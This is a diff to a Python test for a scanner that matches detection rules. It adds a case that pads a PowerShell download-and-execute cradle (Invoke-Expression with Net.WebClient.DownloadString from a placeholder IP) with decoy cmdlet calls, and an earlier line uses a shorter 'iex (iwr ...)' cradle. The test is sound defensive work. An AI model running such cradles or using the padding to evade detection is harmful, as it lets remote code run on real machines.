@@ -98,6 +98,9 @@ def test_a_table_of_cmdlet_names_is_no_cradle() -> None:
     assert _matched(rules, program) == []
     cradle = b"iex (iwr https://203.0.113.7/a.ps1)"
     assert _matched(rules, program + bytes(4096) + cradle)
+    # names put between the parts of a cradle hide nothing: code sits between them
+    hidden = b"Invoke-Expression (Invoke-History; Invoke-Item x; (New-Object Net.WebClient)"
+    assert _matched(rules, hidden + b".DownloadString('http://203.0.113.7/a.ps1'))")
 
 
 def test_user_rule_directories_recursive_with_includes(tmp_path: Path) -> None:
